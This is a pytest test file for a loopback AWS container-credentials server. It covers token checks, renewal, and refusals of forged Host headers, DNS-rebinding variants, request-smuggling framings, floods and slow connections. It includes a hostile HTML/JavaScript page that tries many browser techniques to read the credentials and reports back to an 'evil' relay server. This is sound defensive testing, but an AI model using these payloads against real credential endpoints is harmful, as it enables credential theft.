"""The credentials server: SDKs read it; browsers and other users do not."""

from __future__ import annotations

import ast
import contextlib
import http.server
import json
import os
import queue
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

import boto3
import pytest

from credhelper.credentials import Clocks, Credentials
from credhelper.errors import RefusedError, UnreachableError
from credhelper.run import credentials_server as server_module
from credhelper.run import http_server, supply
from credhelper.run.credentials_server import CredentialsServer
from credhelper.run.http_server import HEAD_LIMIT, MAX_CONNECTIONS

import requirements
from sandbox import until
from sts import SOURCE_KEY_ID, SOURCE_SECRET

if TYPE_CHECKING:
    from collections.abc import Iterator

    from credhelper.agent.client import CacheMode

MARKER = "MARKERofASecret"


class Bank:
    """The source of the server's credentials, with a clock that a test sets."""

    def __init__(self) -> None:
        self.now = 1795331700.0
        self.account_id: str | None = "111122223333"
        self.modes: list[CacheMode] = []
        self.error: Exception | None = None
        self.gate = threading.Event()
        self.gate.set()

    def get(self, mode: CacheMode = "get") -> Credentials:
        self.modes.append(mode)
        key_id = f"ASIA{len(self.modes)}"
        assert self.gate.wait(20)
        if self.error is not None:
            raise self.error
        expires, minted, account = int(self.now + 900), Clocks(self.now), self.account_id
        return Credentials(key_id, MARKER, "token/+=", expires, 900.0, 0.0, minted, account_id=account)

    def serve(self, **more) -> CredentialsServer:
        return CredentialsServer(self.get(), self.get, read_clocks=lambda: Clocks(self.now), **more)


@pytest.fixture
def bank() -> Iterator[Bank]:
    bank = Bank()
    yield bank
    bank.gate.set()


@pytest.fixture
def endpoint(bank) -> Iterator[CredentialsServer]:
    with bank.serve() as endpoint:
        until(lambda: endpoint.http)
        yield endpoint


def _port(endpoint: CredentialsServer) -> int:
    return int(endpoint.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"].split(":")[2].partition("/")[0])


def _token(endpoint: CredentialsServer) -> str:
    return endpoint.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]


def _connect(endpoint: CredentialsServer, send: bytes = b"") -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", _port(endpoint)), timeout=10)
    connection.sendall(send)
    return connection


def _head(
    endpoint: CredentialsServer,
    *more: str,
    line: str = "GET /credentials HTTP/1.1",
    host: str = "{ours}",
    token: str | None = None,
) -> bytes:
    """A valid request, but for these arguments; {ours} and {port} are the server's."""
    token = _token(endpoint) if token is None else token
    lines = [line, *[f"Host: {host}"] * bool(host), *[f"Authorization: {token}"] * bool(token), *more, ""]
    text = "".join(f"{each}\r\n" for each in lines).replace("{port}", str(_port(endpoint)))
    return text.replace("{ours}", f"127.0.0.1:{_port(endpoint)}").encode("latin-1")


def _read(connection: socket.socket) -> tuple[int, dict[str, str], bytes]:
    """Status, headers and body; status 0 if the connection was closed without an answer."""
    answer = b""
    with connection, contextlib.suppress(ConnectionError):
        while block := connection.recv(65536):
            answer += block
    head, _, body = answer.partition(b"\r\n\r\n")
    if not head:
        return 0, {}, b""
    first, *lines = head.decode("ascii").split("\r\n")
    assert first.startswith("HTTP/1.1 ")
    return int(first.split()[1]), {k.lower(): v for k, v in (line.split(": ", 1) for line in lines)}, body


def _ask(endpoint: CredentialsServer, request: bytes | None = None) -> tuple[int, dict[str, str], bytes]:
    connection = _connect(endpoint)
    with contextlib.suppress(ConnectionError):
        connection.sendall(_head(endpoint) if request is None else request)
    return _read(connection)


def _key(endpoint: CredentialsServer) -> str:
    """The access key id that it hands out now."""
    status, _, body = _ask(endpoint)
    assert status == 200, body
    return str(json.loads(body)["AccessKeyId"])


class TestAnswer:
    def test_response_is_the_container_form(self, bank, endpoint) -> None:
        status, _, body = _ask(endpoint)
        document = json.loads(body)

        assert (status, document.pop("AccountId")) == (200, "111122223333")
        assert document == {
            "AccessKeyId": "ASIA1",
            "SecretAccessKey": MARKER,
            "Token": "token/+=",
            "Expiration": "2026-11-22T07:30:00Z",
        }
        bank.account_id = None
        with bank.serve() as other:
            assert "AccountId" not in json.loads(_ask(other)[2])
            assert _token(other) != _token(endpoint)
        assert len(_token(endpoint)) == 43  # 32 random bytes
        assert _token(endpoint).isprintable()

    def test_headers_forbid_caching_sniffing_and_other_origins(self, endpoint) -> None:
        valid, wrong = _head(endpoint), _head(endpoint, token="wrong")
        for request in (valid, wrong, _head(endpoint, "Origin: http://x"), b"x\r\n\r\n"):
            _, headers, body = _ask(endpoint, request)

            assert headers == {
                "content-type": "application/json",
                "content-length": str(len(body)),
                "cache-control": "no-store",
                "x-content-type-options": "nosniff",
                "connection": "close",
            }

    def test_request_in_pieces_is_answered_once(self, endpoint) -> None:
        connection = _connect(endpoint)
        request = _head(endpoint, "Accept: application/json", "Content-Length: 0")
        for at in range(0, len(request), 25):
            connection.sendall(request[at : at + 25])
            time.sleep(0.005)

        assert _read(connection)[0] == 200
        assert _ask(endpoint, request * 3)[2].count(b"Token") == 1

    def test_end_of_the_block_leaves_no_port_thread_or_descriptor(self, bank) -> None:
        threads, descriptors = threading.active_count(), len(os.listdir("/proc/self/fd"))
        with bank.serve() as endpoint:
            connection = _connect(endpoint)
            assert _key(endpoint) == "ASIA1"
        with connection:
            assert connection.recv(1) == b""
        with pytest.raises(ConnectionRefusedError):
            _connect(endpoint)
        assert threading.active_count() == threads
        assert len(os.listdir("/proc/self/fd")) == descriptors


class TestRenewal:
    def test_fresh_session_is_served_from_memory(self, bank, endpoint) -> None:
        assert {_key(endpoint) for _ in range(50)} == {"ASIA1"}
        bank.now += 200
        assert _key(endpoint) == "ASIA1"
        assert bank.modes == ["get"]

    @pytest.mark.alone
    def test_renewal_ahead_of_need_delays_no_request(self, bank, endpoint) -> None:
        bank.now += 900 - 680
        bank.gate.clear()
        for _ in range(3):
            began = time.monotonic()
            assert _key(endpoint) == "ASIA1"
            assert time.monotonic() - began < supply.PATIENCE / 2
        assert bank.modes == ["get", "renew"]
        bank.gate.set()
        until(lambda: _key(endpoint) == "ASIA2")

    def test_failed_renewal_is_not_repeated_at_once(self, bank, endpoint) -> None:
        bank.now += 900 - 680
        bank.error = UnreachableError("STS is down")
        for _ in range(20):
            assert _key(endpoint) == "ASIA1"
        time.sleep(0.1)
        assert len(bank.modes) == 2

    def test_requests_below_fresh_wait_for_one_mint(self, bank, endpoint) -> None:
        bank.now += 900 - 500
        bank.gate.clear()
        connections = [_connect(endpoint, _head(endpoint)) for _ in range(5)]
        time.sleep(supply.PATIENCE / 4)
        bank.gate.set()

        assert {json.loads(_read(connection)[2])["AccessKeyId"] for connection in connections} == {"ASIA2"}
        assert bank.modes == ["get", "get"]

    @pytest.mark.alone
    def test_slow_mint_serves_the_old_session_after_patience(self, bank, endpoint) -> None:
        bank.now += 900 - 500
        bank.gate.clear()
        began = time.monotonic()
        assert _key(endpoint) == "ASIA1"
        assert supply.PATIENCE <= time.monotonic() - began < 1.0 + 0.5
        bank.gate.set()
        until(lambda: _key(endpoint) == "ASIA2")

    def test_almost_expired_session_is_503_instead(self, bank, endpoint, monkeypatch) -> None:
        monkeypatch.setattr(http_server, "STEP_SECONDS", 1.2)
        bank.now += 900 - 59
        bank.gate.clear()
        status, _, body = _ask(endpoint)
        document = {"code": "Unreachable", "message": "no credentials yet: ask again"}

        assert (status, json.loads(body)) == (503, document)
        bank.gate.set()
        until(lambda: _key(endpoint) == "ASIA2")

    def test_failure_is_hidden_while_the_old_session_serves(self, bank, endpoint) -> None:
        bank.error = UnreachableError("STS is down")
        bank.now += 900 - 61
        assert _key(endpoint) == "ASIA1"
        assert len(bank.modes) == 2

    @pytest.mark.parametrize(
        ("error", "status", "code", "message"),
        [
            (UnreachableError("STS is down"), 503, "Unreachable", "STS is down"),
            (
                RefusedError("not allowed: 'x'", "ask \x1b[31m", "or wait", code="AccessDenied"),
                *(400, "AccessDenied", "not allowed: 'x'; ask \\x1b[31m; or wait"),
            ),
            (ValueError(MARKER), 400, "Credhelper", "internal error: ValueError"),
        ],
    )
    def test_failure_has_the_form_of_sdks_and_is_retried(
        self, bank, endpoint, error, status, code, message
    ) -> None:
        bank.error = error
        bank.now += 900
        for _ in range(2):
            found, _, body = _ask(endpoint)
            assert (found, json.loads(body)) == (status, {"code": code, "message": message})
        bank.error = None
        assert _key(endpoint) == "ASIA4"

    def test_min_remaining_of_the_profile_counts(self, bank) -> None:
        with bank.serve(min_remaining=300) as endpoint:
            bank.now += 900 - 400
            assert _key(endpoint) == "ASIA1"
            bank.now += 101
            assert _key(endpoint) == "ASIA2"

    def test_lost_renewal_is_replaced(self, bank, endpoint, monkeypatch) -> None:
        monkeypatch.setattr(supply, "LOST_SECONDS", 0.5)
        bank.now += 900 - 100
        bank.gate.clear()
        assert [_key(endpoint), _key(endpoint)] == ["ASIA1"] * 2
        assert len(bank.modes) == 3

    def test_clients_that_leave_free_their_places(self, bank, endpoint) -> None:
        bank.now += 900
        bank.gate.clear()
        for _ in range(2 * MAX_CONNECTIONS):
            with _connect(endpoint, _head(endpoint)):
                time.sleep(0.005)
        until(lambda: not endpoint.http.connections, 2)
        connection = _connect(endpoint, _head(endpoint))
        until(lambda: _waiting(endpoint))
        bank.gate.set()
        assert _read(connection)[0] == 200


def _waiting(endpoint: CredentialsServer) -> int:
    return sum(each.waiting is not None for each in list(endpoint.http.connections))


SECRETS = {"_token", "values", "token", "authorization"}
"""The names of the token, and of the header with it, in the module."""
SEARCHES = ("__eq__", "startswith", "endswith", "find", "index", "count")


def _mentions(node: ast.AST, names: set[str] = SECRETS) -> bool:
    found = {getattr(each, field, None) for each in ast.walk(node) for field in ("id", "attr", "value")}
    return not found.isdisjoint(names | {name.encode() for name in names})


def _is_length(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and ast.unparse(node.func) == "len"


class TestAuthorization:
    def test_every_wrong_token_gets_the_same_401(self, endpoint) -> None:
        token = _token(endpoint)
        wrong = ["", "wrong", token[:-1], token[1:], f"{token}x", token.swapcase(), f"Bearer {token}"]
        wrong += [f'"{token}"', "\xe4\xf6\xfc\xff", token[:-1] + "\xe9", "x" * 7000]
        requests = [
            *(_head(endpoint, token=each) for each in wrong),
            _head(endpoint, f"Authorization: {token}"),
            _head(endpoint, "Authorization: wrong"),
            _head(endpoint, f"Authorization: {token}", token="wrong"),
            _head(endpoint, f"X-Authorization: {token}", f"Cookie: token={token}", token=""),
            _head(endpoint, line=f"GET /credentials?token={token} HTTP/1.1", token=""),
            _head(endpoint, line=f"GET /{token} HTTP/1.1", token=""),
        ]
        first, *others = (_ask(endpoint, request) for request in requests)

        assert others == [first] * 16
        assert first[::2] == (401, b'{"code": "Unauthorized", "message": "the token is missing or wrong"}')

    def test_token_is_compared_by_compare_digest_only(self) -> None:
        digests, others = [], []
        for node in ast.walk(ast.parse(Path(str(server_module.__file__)).read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and "digest" in ast.unparse(node.func):
                digests += [ast.unparse(node)] * _mentions(node, {"_token"})
            elif isinstance(node, (ast.Compare, ast.Match)):
                parts = [part for part in ast.iter_child_nodes(node) if not _is_length(part)]
                others += [ast.unparse(node)] * any(map(_mentions, parts))
            elif isinstance(node, ast.Attribute) and node.attr in SEARCHES:
                others += [ast.unparse(node)] * _mentions(node.value)

        assert digests == ["hmac.compare_digest(values[0] if len(values) == 1 else b'', self._token)"]
        assert others == []


MISDIRECTED, FORBIDDEN, BAD = (421, "MisdirectedRequest"), (403, "Forbidden"), (400, "BadRequest")
NOT_ALLOWED, TOO_LARGE, NOT_FOUND = (405, "MethodNotAllowed"), (413, "RequestTooLarge"), (404, "NotFound")
HOSTS = [
    "evil.test", "evil.test:{port}", "127.0.0.1", "127.0.0.1:80", "127.0.0.1:1{port}", "127.0.0.1:{port}0",
    "127.0.0.1:0{port}", "127.0.0.1:{port}.evil.test", "127.0.0.1.evil.test:{port}", "127.0.0.1.:{port}",
    "127.1:{port}", "2130706433:{port}", "0x7f.0.0.1:{port}", "127.0.0.2:{port}", "0.0.0.0:{port}",
    "localhost:{port}", "LOCALHOST:{port}", "localhost:80", "[::1]:{port}", "[::ffff:127.0.0.1]:{port}",
    "user@127.0.0.1:{port}", "127.0.0.1:{port}, evil.test",
]  # fmt: skip
OF_BROWSERS = [
    "Origin: http://evil.test", "Origin: null", "Origin:", "origin: http://127.0.0.1:{port}",
    "Referer: http://evil.test/", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-origin",
    "Sec-Fetch-Mode: no-cors", "sec-fetch-dest: image", "SEC-FETCH-USER: ?1",
]  # fmt: skip
CORS = ["Access-Control-Request-Method: GET", "Access-Control-Request-Headers: authorization"]
METHODS = ["POST", "PUT", "OPTIONS", "DELETE", "PATCH", "TRACE", "get", "CONNECT"]
PATHS = ["/", "/credentials/", "/credentials?", "/credentials/../credentials", "//credentials"]
BODIES = [
    ("Content-Length: 1", "x"),
    ("Content-Length: 1000000000", "x" * 100000),
    ("Transfer-Encoding: chunked", "3\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\nContent-Length: 3", "0\r\n\r\nGET"),
    ("Content-Length: 3\r\nTransfer-Encoding: chunked", "0\r\n\r\nGET"),
    ("Content-Length: 1\r\nExpect: 100-continue", ""),
]
REFUSED = [
    *((MISDIRECTED, [], {"host": host}) for host in HOSTS),
    *((BAD, [], {"host": host}) for host in ("", "127.0.0.1:{port}\x00")),
    (MISDIRECTED, ["Host:"], {"host": ""}),
    (MISDIRECTED, [], {"host": "", "line": "GET /credentials HTTP/1.0"}),  # HTTP/1.0 needs no Host
    (BAD, ["Host: evil.test"], {}),
    (BAD, ["Host: {ours}"], {"host": "evil.test"}),
    (BAD, ["Host: {ours}"], {}),
    (MISDIRECTED, [], {"line": "GET http://evil.test/credentials HTTP/1.1"}),
    (MISDIRECTED, [], {"line": "GET http://{ours}/credentials HTTP/1.1"}),
    (MISDIRECTED, [], {"line": "GET * HTTP/1.1"}),
    *((FORBIDDEN, [header], {}) for header in OF_BROWSERS),
    *((NOT_ALLOWED, CORS, {"line": f"{method} /credentials HTTP/1.1"}) for method in METHODS),
    *((TOO_LARGE, [f"{header}\r\n\r\n{body}"], {}) for header, body in BODIES),
    *((NOT_FOUND, [], {"line": f"GET {path} HTTP/1.1"}) for path in PATHS),
]


class TestRefusals:
    @pytest.mark.parametrize(("expected", "headers", "change"), REFUSED, ids=lambda each: str(each)[:50])
    def test_request_with_the_right_token_is_refused(self, endpoint, expected, headers, change) -> None:
        status, found, body = right = _ask(endpoint, _head(endpoint, *headers, **change))

        assert (status, json.loads(body)["code"]) == expected
        assert MARKER.encode() not in body
        assert not [name for name in found if name.startswith("access-control")]
        if status in (403, 421):  # before the token is compared
            assert right == _ask(endpoint, _head(endpoint, *headers, **change, token="wrong"))

    def test_head_is_405_without_a_body(self, endpoint) -> None:
        assert _ask(endpoint, _head(endpoint, line="HEAD /credentials HTTP/1.1"))[::2] == (405, b"")


class TestLimits:
    @pytest.mark.parametrize(
        "header",
        [
            "Transfer-Encoding: gzip",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "Content-Length: 0\r\nContent-Length: 5",
            "Content-Length: -1",
            "Content-Length: 0x0",
            "Transfer-Encoding : chunked",
            "X: a\r\n Y: folded\x00",
            "X",
        ],
    )
    def test_bad_framing_is_400_or_501(self, endpoint, header) -> None:
        status, _, body = _ask(endpoint, _head(endpoint, header))

        assert status in (400, 501)
        assert json.loads(body)["code"] == "BadRequest"

    @pytest.mark.parametrize(
        "garbage", [b"\0" * 50 + b"\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", b"hello\r\n\r\n"]
    )
    def test_other_protocol_is_400_or_closed(self, endpoint, garbage) -> None:
        connection = _connect(endpoint, garbage)
        connection.shutdown(socket.SHUT_WR)
        assert _read(connection)[0] in (0, 400)

    @pytest.mark.parametrize("filler", ["X: {}", "{}: x"])
    def test_head_over_8_kib_is_431(self, endpoint, filler) -> None:
        assert HEAD_LIMIT == 8192
        for size, expected in ((HEAD_LIMIT, 200), (HEAD_LIMIT + 1, 431), (60000, 431), (5_000_000, 431)):
            empty = _head(endpoint, filler.format(""), "Z: ")
            request = _head(endpoint, filler.format("y" * (size - len(empty) - 1)), "Z: z")
            assert len(request) == size
            status = _ask(endpoint, request)[0]

            assert status == expected or (size > 60000 and status == 0)  # cut off while still sending

    def test_flood_is_cut_off_before_it_costs_memory(self, endpoint) -> None:
        before, block, sent = _resident(), b"x" * (1 << 20), 0
        with contextlib.suppress(ConnectionError), _connect(endpoint) as connection:
            connection.sendall(_head(endpoint, "Content-Length: 1000000000"))
            while sent < 1000 << 20:
                sent += connection.send(block)

        assert sent < 50 << 20
        assert _resident() - before < 10 << 20
        assert _key(endpoint) == "ASIA1"

    @pytest.mark.alone
    def test_idle_connections_do_not_delay_requests(self, endpoint) -> None:
        idle = [_connect(endpoint, _head(endpoint)[: number % 60 * (number % 2)]) for number in range(300)]
        times = []
        for _ in range(10):
            began = time.monotonic()
            assert _key(endpoint) == "ASIA1"
            times.append(time.monotonic() - began)

        assert len(endpoint.http.connections) <= MAX_CONNECTIONS
        assert sorted(times)[5] < http_server.STEP_SECONDS / 20
        for connection in idle:
            connection.close()

    def test_at_most_16_requests_wait_and_all_are_answered(self, bank, endpoint) -> None:
        bank.now += 900
        bank.gate.clear()
        connections = [_connect(endpoint, _head(endpoint)) for _ in range(60)]
        until(lambda: _waiting(endpoint) == MAX_CONNECTIONS)
        time.sleep(0.2)
        assert len(endpoint.http.connections) == MAX_CONNECTIONS == 16
        bank.gate.set()

        assert [_read(connection)[0] for connection in connections] == [200] * 60
        assert len(bank.modes) == 2

    def test_new_connection_is_not_closed_within_the_grace(self, endpoint, monkeypatch) -> None:
        monkeypatch.setattr(http_server, "GRACE", 1.0)
        connections = [_connect(endpoint) for _ in range(MAX_CONNECTIONS + 5)]
        time.sleep(0.2)
        for connection in connections:
            connection.sendall(_head(endpoint))
        assert [_read(connection)[0] for connection in connections] == [200] * len(connections)

    @pytest.mark.alone
    def test_slow_step_is_408_or_closed(self, endpoint, monkeypatch) -> None:
        assert http_server.STEP_SECONDS == 5.0
        monkeypatch.setattr(http_server, "STEP_SECONDS", 0.6)
        began = time.monotonic()
        silent, half, slow = (_connect(endpoint, sent) for sent in (b"", b"GET /cred", b""))
        with _connect(endpoint, _head(endpoint)):
            for byte in _head(endpoint)[:5]:
                slow.sendall(bytes([byte]))
                time.sleep(0.1)

            assert [_read(each)[0] for each in (silent, half, slow)] == [0, 408, 408]
            until(lambda: not endpoint.http.connections, 3)
            assert time.monotonic() - began < 5 * http_server.STEP_SECONDS

    def test_idle_server_has_no_wakeups(self, endpoint) -> None:
        status = Path(f"/proc/self/task/{endpoint._thread.native_id}/status")

        def wakeups() -> list[str]:
            return [line for line in status.read_text().splitlines() if "ctxt_switches" in line]

        assert _key(endpoint) == "ASIA1"
        until(lambda: not endpoint.http.connections, 2)
        time.sleep(0.2)
        before = wakeups()
        time.sleep(0.5)
        assert wakeups() == before

    def test_exhausted_descriptors_pause_accepting(self, endpoint, monkeypatch) -> None:
        monkeypatch.setattr(http_server, "ACCEPT_PAUSE", 0.3)
        tries, accept = [], endpoint.http.loop.sock_accept

        async def starved(listener):
            tries.append(time.monotonic())
            if len(tries) < 3:
                raise OSError(24, "Too many open files")
            return await accept(listener)

        monkeypatch.setattr(endpoint.http.loop, "sock_accept", starved)
        assert [_key(endpoint) for _ in range(2)] == ["ASIA1"] * 2  # the first accept had begun before
        assert len(tries) >= 3
        assert tries[2] - tries[0] > 0.5

    def test_error_with_one_client_closes_its_connection_only(self, endpoint, monkeypatch) -> None:
        with monkeypatch.context() as patch:
            patch.setattr(endpoint, "refusal", lambda *_: 1 / 0)
            assert _ask(endpoint)[0] == 0
        assert _key(endpoint) == "ASIA1"


def _resident() -> int:
    return int(Path("/proc/self/statm").read_text().split()[1]) * 4096


class TestPlace:
    def test_server_listens_on_loopback_only(self, endpoint) -> None:
        port = f":{_port(endpoint):04X}"
        tables = [Path(f"/proc/net/{table}").read_text().splitlines()[1:] for table in ("tcp", "tcp6")]
        rows = [row.split() for table in tables for row in table]

        assert [row[1] for row in rows if row[3] == "0A" and row[1].endswith(port)] == [f"0100007F{port}"]
        assert not endpoint._listener.get_inheritable()

    @pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a network namespace")
    def test_other_network_namespace_cannot_connect(self, endpoint) -> None:
        with _second_network() as (namespace, address), socket.socket() as open_to_all:
            open_to_all.bind(("0.0.0.0", 0))
            open_to_all.listen()

            assert _connects(namespace, address, open_to_all.getsockname()[1])
            assert not _connects(namespace, address, _port(endpoint))
            assert not _connects(namespace, "127.0.0.1", _port(endpoint))


@contextlib.contextmanager
def _second_network() -> Iterator[tuple[str, str]]:
    """A namespace with a cable to this one: its name, and our address at the near end."""
    ip, name, subnet = requirements.program("ip"), f"ch{os.getpid()}", f"10.213.{os.getpid() % 250}"
    created = subprocess.run([ip, "netns", "add", name], capture_output=True, text=True, check=False)
    if created.returncode:
        pytest.skip(f"no network namespaces here: {created.stderr.strip()}")
    try:
        for step in (
            f"link add {name}a type veth peer name {name}b netns {name}",
            f"addr add {subnet}.1/30 dev {name}a",
            f"link set {name}a up",
            f"-n {name} addr add {subnet}.2/30 dev {name}b",
            f"-n {name} link set {name}b up",
            f"-n {name} link set lo up",
        ):
            subprocess.run([ip, *step.split()], check=True)
        yield name, f"{subnet}.1"
    finally:
        subprocess.run([ip, "netns", "del", name], capture_output=True, check=False)
        subprocess.run([ip, "link", "del", f"{name}a"], capture_output=True, check=False)


def _connects(namespace: str, address: str, port: int) -> bool:
    program = f"import socket; socket.create_connection(({address!r}, {port}), timeout=5)"
    command = [requirements.program("ip"), "netns", "exec", namespace, sys.executable, "-c", program]
    return subprocess.run(command, capture_output=True, timeout=20, check=False).returncode == 0


class TestClients:
    def test_aws_cli_v2_reads_the_session(self, sts, tmp_path) -> None:
        aws = requirements.program("/usr/bin/aws")
        key = {"aws_access_key_id": SOURCE_KEY_ID, "aws_secret_access_key": SOURCE_SECRET}
        client = boto3.client("sts", region_name="eu-west-1", endpoint_url=sts.url, **key)
        client.assume_role(RoleArn="arn:aws:iam::222233334444:role/Developer", RoleSessionName="me")
        now = Clocks(time.time())
        names = ("AccessKeyId", "SecretAccessKey", "SessionToken")
        texts = [sts.issued[0][name] for name in names]
        minted = Credentials(*texts, int(now.wall) + 900, 900.0, 0.0, now, account_id="222233334444")
        command = [aws, "sts", "get-caller-identity", "--region", "eu-west-1", "--endpoint-url", sts.url]
        with CredentialsServer(minted, lambda _: minted) as endpoint:
            environ = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), **endpoint.environ}
            answer = json.loads(subprocess.check_output(command, env=environ, timeout=60))

        assert answer["Arn"] == "arn:aws:sts::222233334444:assumed-role/Developer/me"

    def test_boto3_shows_the_sentence_of_an_error(self, bank, endpoint, tmp_path) -> None:
        bank.now += 900
        bank.error = RefusedError("not allowed: sts:AssumeRoot on 'x'", code="AccessDenied")
        environ = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), **endpoint.environ}
        command = [sys.executable, "-c", "import boto3; boto3.Session().get_credentials()"]
        done = subprocess.run(command, env=environ, capture_output=True, text=True, check=False)

        assert "not allowed: sts:AssumeRoot on 'x'" in done.stderr


PAGE = """\
<!doctype html><title>evil</title><body><script>
const far = "http://127.0.0.1:%(port)d/credentials", token = {Authorization: "%(token)s"};
const found = {};
const within = (what) => Promise.race([what, new Promise((_, no) => setTimeout(() => no("late"), 3000))]);
const attempt = async (name, what) => {
  try { found[name] = String(await within(what())); } catch (error) { found[name] = "no: " + error; }
};
const text = (url, options) => async () => {
  const answer = await fetch(url, options);
  return answer.status + (await answer.text());
};
const inside = (frame) => {
  try { return frame.contentDocument.body.innerText; } catch (error) { return "no: " + error; }
};
const element = (tag, attribute, url) => () => new Promise((yes, no) => {
  const it = document.createElement(tag);
  it.onload = () => yes(tag + " loaded " + (tag == "iframe" ? inside(it) : ""));
  it.onerror = () => no(tag + " error");
  it[attribute] = url;
  document.body.append(it);
});
const form = (method, url) => () => new Promise((yes) => {
  const frame = document.createElement("iframe"), it = document.createElement("form");
  frame.name = method; it.target = method; it.action = url; it.method = method;
  document.body.append(frame, it);
  it.submit();
  frame.onload = () => yes(inside(frame));
});
const socket = () => new Promise((yes, no) => {
  const it = new WebSocket(far.replace("http", "ws"));
  it.onopen = () => yes("open"); it.onmessage = (e) => yes(e.data); it.onerror = () => no("error");
});
const xhr = (url, headers) => () => new Promise((yes, no) => {
  const it = new XMLHttpRequest();
  it.open("GET", url);
  for (const [name, value] of Object.entries(headers)) it.setRequestHeader(name, value);
  it.onload = () => yes(it.status + it.responseText); it.onerror = () => no("error");
  it.send();
});
(async () => {
  await attempt("fetch", text(far));
  await attempt("fetch with the token", text(far, {headers: token}));
  await attempt("fetch no-cors", text(far, {mode: "no-cors"}));
  await attempt("fetch no-cors with the token", text(far, {mode: "no-cors", headers: token}));
  await attempt("fetch post", text(far, {method: "POST", body: "x"}));
  await attempt("fetch without referrer", text(far, {referrerPolicy: "no-referrer", credentials: "include"}));
  await attempt("xhr", xhr(far, token));
  await attempt("img", element("img", "src", far));
  await attempt("script", element("script", "src", far));
  await attempt("iframe", element("iframe", "src", far));
  await attempt("form get", form("get", far));
  await attempt("form post", form("post", far));
  await attempt("websocket", socket);
  await attempt("rebound fetch", text("/credentials", {headers: token}));
  const bare = {headers: token, referrerPolicy: "no-referrer"};
  await attempt("rebound fetch without referrer", text("/credentials", bare));
  await attempt("rebound xhr", xhr("/credentials", token));
  await attempt("rebound iframe", element("iframe", "src", "/credentials"));
  await attempt("control", text("/control", {headers: token}));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>
"""


class Evil(http.server.ThreadingHTTPServer):
    """The server of a hostile page, on 127.0.0.2 and the endpoint's own port.

    For its page, the endpoint is another origin at 127.0.0.1; and after DNS has been made to point there, the
    same one: what the page then asks of its own name is passed on byte by byte, as the system would send it.
    """

    def __init__(self, endpoint: CredentialsServer) -> None:
        self.endpoint = endpoint
        self.page = PAGE % {"port": _port(endpoint), "token": _token(endpoint)}
        self.reports: queue.Queue[dict[str, str]] = queue.Queue()
        self.passed_on: list[bytes] = []
        super().__init__(("127.0.0.2", _port(endpoint)), EvilHandler)


class EvilHandler(http.server.BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:
        if self.path != "/credentials":
            self._answer(self.server.page if self.path == "/" else f"control {MARKER}")
            return
        text = f"{self.raw_requestline.decode()}{self.headers}"
        request = "\r\n".join([*text.splitlines(), ""]).encode()
        self.server.passed_on.append(request)
        with _connect(self.server.endpoint, request) as connection:
            while block := connection.recv(65536):
                self.wfile.write(block)

    def do_POST(self) -> None:
        self.server.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._answer("")

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        pass


FLAGS = (
    "--headless=new --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run --no-proxy-server "
    "--disable-background-networking --disable-component-update"
)
RULES = "--host-resolver-rules=MAP evil.test 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE 127.0.0.*"


def test_hostile_page_in_chromium_reads_nothing(endpoint, monkeypatch, tmp_path) -> None:
    connection, statuses = http_server.Connection, []
    reply = connection._reply
    monkeypatch.setattr(connection, "_reply", lambda c, s, d: (statuses.append(s), reply(c, s, d)))
    evil = Evil(endpoint)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    browser = subprocess.Popen(
        [
            *(requirements.program("chromium"), *FLAGS.split(), RULES),
            *(f"--user-data-dir={tmp_path / 'profile'}", f"http://evil.test:{_port(endpoint)}/"),
        ],
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        found = evil.reports.get(timeout=60)
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
        evil.shutdown()
        evil.server_close()
    read = {name: what for name, what in found.items() if MARKER in what or "ASIA" in what}

    assert read == {"control": f"200control {MARKER}"}, found
    assert 200 not in statuses, statuses
    assert statuses.count(403) >= 8, (statuses, found)
    assert statuses.count(421) >= 4, (statuses, found)
    assert len(evil.passed_on) >= 4
